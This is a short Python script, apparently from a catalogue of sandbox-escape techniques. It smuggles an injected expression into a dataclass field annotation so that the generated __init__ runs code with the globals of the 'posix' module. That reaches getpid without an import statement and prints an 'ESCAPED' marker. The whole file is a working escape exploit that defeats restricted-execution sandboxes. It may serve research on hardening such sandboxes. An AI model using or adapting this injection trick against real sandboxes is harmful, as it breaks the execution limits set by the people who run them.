# technique: __module__ = 'posix': the generated text runs with the globals of that module
# goal: import
# source: own analysis: sys.modules in trusted code
import dataclasses


class D:
    pass


D.__module__ = 'posix'
D.__annotations__ = {"a, c=print('ESCAPED pid=%d' % getpid())):#": dataclasses.InitVar[int]}
try:
    dataclasses.dataclass(repr=False, eq=False, match_args=False)(D)
except TypeError:
    pass
